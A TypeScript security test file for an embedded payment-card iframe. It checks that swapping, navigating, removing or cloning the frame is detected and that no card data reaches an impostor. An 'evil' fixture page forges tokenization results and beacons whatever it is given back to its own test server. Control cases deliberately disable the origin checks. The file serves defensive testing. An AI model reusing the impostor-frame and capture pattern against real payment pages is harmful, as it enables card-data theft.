/** B2 and B3: the frame is swapped, navigated, moved or copied, and what comes in its place claims to have a token. */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { launchBrowser, type Page } from '../../testing/browser.ts';
import { mount, mountReady, typeCard } from '../../testing/host-page.ts';
import { type Origin, serve } from '../../testing/serve.ts';
import { type Scene, setScene, useStage } from '../../testing/stage.ts';

const LIMIT_MS = 100;
const MOST_TRIES = 5;
const stage = useStage();
let evil: Origin | undefined;

/** Says that it took over, claims a token by every way it has, and reports whatever it is given. */
const evilPage = `<!doctype html><link rel="icon" href="data:,"><input id="number" autofocus><script>
parent.postMessage({ type: 'took-over' }, '*');
const expiry = { month: 12, year: 2039 };
const result = { token: 'evil', brand: 'visa', last4: '4242', expiry, holderName: null, postalCode: null };
for (let id = 1; id < 20; id++) parent.postMessage({ type: 'tokenized', id, result }, '*');
onmessage = ({ data, ports: [port] }) => {
  navigator.sendBeacon('/given', JSON.stringify(data));
  if (!port) return;
  port.onmessage = ({ data: { type, id } }) => {
    if (type === 'ping') port.postMessage({ type: 'pong', id });
    if (type === 'tokenize') port.postMessage({ type: 'tokenized', id, result });
  };
  port.postMessage({ type: 'ready', nonce: data.nonce, publicKey: new URLSearchParams(location.search).get('pk') });
};
</script>`;

before(async () => {
  evil = await serve(() => ({ body: evilPage }), '127.0.0.1');
});
after(async () => evil?.close());

const evilUrl = (pk = '') => `${evil?.origin}/?pk=${pk}`;
const given = () => (evil?.asked ?? []).filter(({ url }) => url === '/given');

const attacks = [
  'src',
  'src and back',
  'srcdoc',
  'location',
  'location of the same document',
  'removal',
  'removal and back',
  'clone in its place',
  'clone beside it',
  'something over it in the container',
  'container emptied',
  'container moved',
  'container removed',
  'sandbox loosened',
  'whole page written anew',
] as const;
type Attack = (typeof attacks)[number];

/** Attacks that only the frame's next `load` tells the page of; how long that takes is the browser's and the machine's. */
const navigations: readonly Attack[] = ['location', 'location of the same document'];

/** Runs in the host's page. @returns when the attack began, in milliseconds since 1970. */
function strike([attack, url]: readonly [Attack, string]): number {
  const frame = document.querySelector('iframe');
  const container = document.querySelector('#card');
  if (!frame || !container) throw new Error('Nothing to attack');
  const source = frame.src;
  const blows: Record<Attack, () => unknown> = {
    src: () => frame.setAttribute('src', url),
    'src and back': () => {
      frame.src = url;
      frame.src = source;
    },
    srcdoc: () => frame.setAttribute('srcdoc', '<input>'),
    location: () => frame.contentWindow?.location.replace(url),
    'location of the same document': () => frame.contentWindow?.location.replace(source),
    removal: () => frame.remove(),
    'removal and back': () => {
      frame.remove();
      container.append(frame);
    },
    'clone in its place': () => frame.replaceWith(frame.cloneNode()),
    'clone beside it': () => frame.after(frame.cloneNode()),
    'something over it in the container': () => container.append(document.createElement('input')),
    'container emptied': () => container.replaceChildren(),
    'container moved': () => document.body.append(container),
    'container removed': () => container.remove(),
    'sandbox loosened': () => frame.setAttribute('sandbox', 'allow-scripts allow-same-origin allow-top-navigation'),
    'whole page written anew': () => document.body.replaceChildren(...document.body.cloneNode(true).childNodes),
  };
  window.told = 0;
  frame.addEventListener('load', ({ timeStamp }) => {
    window.told ||= performance.timeOrigin + timeStamp;
  });
  const at = performance.timeOrigin + performance.now();
  blows[attack]();
  return at;
}

/** Notes that a foreign document says that it is there. */
const noteTakeover = (page: Page) =>
  page.evaluate(() => {
    window.tookOver = false;
    window.addEventListener('message', ({ data }) => {
      window.tookOver ||= data.type === 'took-over';
    });
  });

/**
 * A page whose frame was navigated away the moment it was put there. The frame's own document is kept on its way for as
 * long: were it there first, a document would be swapped that has loaded, which is another attack.
 */
async function swappedAtOnce({ host, vault }: Pick<Scene, 'host' | 'vault'>): Promise<Page> {
  const page = await stage.open(host.origin);
  await page.route(
    (url) => url.href.startsWith(vault.entry.frameUrl),
    () => undefined,
  );
  await noteTakeover(page);
  await page.evaluate((url) => {
    const observer = new MutationObserver(() => {
      observer.disconnect();
      document.querySelector('iframe')?.contentWindow?.location.replace(url);
    });
    observer.observe(document.body, { childList: true, subtree: true });
  }, evilUrl(vault.entry.publicKey));
  await mount(page, vault.entry);
  await page.waitForFunction(() => window.tookOver);
  return page;
}

declare global {
  interface Window {
    /** A foreign document said that it is there. */
    tookOver: boolean;
    /** When the browser first told the page that the frame has another document, in milliseconds since 1970. */
    told: number;
  }
}

const outcome = (page: Page) =>
  page.evaluate(() =>
    window.card.tokenize().then(
      ({ token }) => token,
      ({ code }) => String(code),
    ),
  );

const phases = ['before', 'during', 'after'] as const;

/** One attack in one phase of the form's life. @returns after how many milliseconds it was noticed. */
async function survive(page: Page, attack: Attack, phase: (typeof phases)[number]): Promise<number> {
  const { vault, host } = stage.scene();
  await page.goto(host.origin);
  const frame = await mountReady(page, vault.entry);
  if (phase === 'during') await typeCard(frame, { number: '42424242' });
  if (phase === 'after') await typeCard(frame);
  const cards = vault.cards().length;
  const began = await page.evaluate(strike, [attack, evilUrl()] as const);
  // A key that was on its way to a document that is gone is never acknowledged.
  if (phase === 'during') await Promise.race([page.keyboard.type('42424242'), page.waitForTimeout(500)]);
  const noticed = await page.evaluate(async () => {
    for (let tries = 0; tries < 300 && window.tampers.length === 0; tries++) {
      await new Promise((resolve) => setTimeout(resolve, 10));
    }
    return { tampers: window.tampers, told: window.told, origin: performance.timeOrigin };
  });
  assert.equal(noticed.tampers.length, 1, `${phase}: noticed once`);
  const at = noticed.origin + (noticed.tampers[0]?.at ?? 0);
  assert.equal(await outcome(page), 'tampered', phase);
  assert.equal(vault.cards().length, cards, `${phase}: no card was sent`);
  if (!navigations.includes(attack)) return at - began;
  // Noticed by something quicker than the event: told by then, or not at all yet.
  return noticed.told === 0 ? 0 : at - noticed.told;
}

describe('B3 the frame is interfered with', () => {
  for (const attack of attacks) {
    it(`${attack}: noticed within ${LIMIT_MS} ms, nothing can be submitted`, async () => {
      const page = await stage.open();
      const delays: number[] = [];
      for (const phase of phases) {
        const tries = [await survive(page, attack, phase)];
        // A busy machine may stop the page, or the frame's process, for longer than that now and then: then most must be in time.
        while (Math.max(...tries) > LIMIT_MS && tries.length < MOST_TRIES)
          tries.push(await survive(page, attack, phase));
        delays.push(tries.sort((a, b) => a - b)[tries.length >> 1] ?? Number.NaN);
      }
      assert.equal(given().length, 0, 'the foreign document was told nothing');
      assert.ok(Math.max(...delays) <= LIMIT_MS, `noticed after ${delays.join(', ')} ms`);
    });
  }

  it('calls nothing tampering that is none', async () => {
    const { vault } = stage.scene();
    const page = await stage.open();
    const frame = await mountReady(page, vault.entry);
    await typeCard(frame);
    await page.evaluate(async () => {
      const container = document.querySelector<HTMLElement>('#card');
      const { body } = document;
      const breathe = () => new Promise((resolve) => setTimeout(resolve, 50));
      const changes = [
        () => container?.setAttribute('class', 'a b'),
        () => container?.setAttribute('style', 'max-width:300px;transform:translate(10px,5px)'),
        () => body.append('text', document.createElement('iframe')),
        () => body.prepend(document.createElement('p')),
        () => container?.setAttribute('hidden', ''),
        () => container?.removeAttribute('hidden'),
        () => history.pushState({}, '', '#somewhere'),
        () => window.scrollTo(0, 100),
        () => window.postMessage({ type: 'tokenized', id: 1 }, '*'),
        () => window.card.update({ theme: { density: 'compact', scheme: 'dark' }, locale: 'es' }),
        () => body.dispatchEvent(new Event('load', { bubbles: true })),
      ];
      for (const change of changes) {
        change();
        await breathe();
      }
    });
    assert.deepEqual(await page.evaluate(() => window.tampers), []);
    assert.match(await outcome(page), /^[\w-]+\.[\w-]+\.[\w-]+$/);
  });

  it('survives the back-forward cache', async () => {
    const { vault, host } = stage.scene();
    const browser = await launchBrowser({ ignoreDefaultArgs: ['--disable-back-forward-cache'] });
    try {
      const page = await browser.newPage();
      await page.goto(host.origin);
      await mountReady(page, vault.entry);
      await page.evaluate(() => {
        const tell = () => {
          document.title = JSON.stringify([window.tampers, document.querySelectorAll('iframe').length]);
        };
        window.addEventListener('pageshow', ({ persisted }) => {
          if (persisted) setTimeout(tell, 300);
        });
      });
      await page.goto(`${host.origin}/host.js`);
      // A page that comes out of the cache is not told to the test's driver; its title is.
      void page.evaluate(() => history.back()).catch(() => undefined);
      const session = await browser.newBrowserCDPSession();
      let titles: string[] = [];
      for (let tries = 0; tries < 100 && !titles.includes('[[],1]'); tries++) {
        await new Promise((resolve) => setTimeout(resolve, 50));
        titles = (await session.send('Target.getTargets')).targetInfos.map(({ title }) => title);
      }
      assert.ok(titles.includes('[[],1]'), titles.join('\n'));
    } finally {
      await browser.close();
    }
  });
});

describe('B2 a foreign document claims to be the form', () => {
  it('swapped before the first load: it is told nothing, and nothing it says counts', async () => {
    const page = await swappedAtOnce(stage.scene());
    await page.waitForTimeout(300);
    const started = await page.evaluate(() =>
      Promise.race([
        window.card.ready.then(
          () => 'ready',
          ({ code }) => String(code),
        ),
        new Promise((resolve) => setTimeout(resolve, 200, 'waiting')),
      ]),
    );
    assert.notEqual(started, 'ready');
    await page.evaluate(() => {
      const answer = window.card.tokenize().catch(({ code }) => code);
      window.card.destroy();
      return answer;
    });
    assert.equal(given().length, 0);
  });

  it('control: a hello to any origin hands the form to the foreign document', async () => {
    const weak = await setScene({
      host: {
        weakenings: [{ file: 'host/mounted-frame.ts', defence: 'this.#address.origin, [', instead: "'*', [" }],
      },
    });
    try {
      const page = await swappedAtOnce(weak);
      await page.evaluate(() => window.card.ready);
      assert.equal(await outcome(page), 'evil');
    } finally {
      await weak.close();
    }
  });

  it('control: with the watch blinded a swap goes unnoticed, and still the dead port stops the submit', async () => {
    const weak = await setScene({
      host: {
        weakenings: [
          {
            file: 'host/mounted-frame.ts',
            defence: 'onTamper: (reason) => this.#tampered(reason)',
            instead: 'onTamper: () => undefined',
          },
          {
            file: 'host/mounted-frame.ts',
            defence: "onGone: () => this.#tampered('removed')",
            instead: 'onGone: () => undefined',
          },
          {
            file: 'host/mounted-frame.ts',
            defence: "case 'leaving':\n        this.#tampered('removed');",
            instead: '',
          },
        ],
      },
    });
    try {
      const page = await stage.open(weak.host.origin);
      const frame = await mountReady(page, weak.vault.entry);
      await typeCard(frame);
      await noteTakeover(page);
      await page.evaluate(strike, ['src', evilUrl()] as const);
      await page.waitForFunction(() => window.tookOver);
      await page.waitForTimeout(300);
      assert.deepEqual(await page.evaluate(() => window.tampers), []);
      assert.equal(await outcome(page), 'tampered');
      assert.equal(weak.vault.cards().length, 0);
    } finally {
      await weak.close();
    }
  });
});
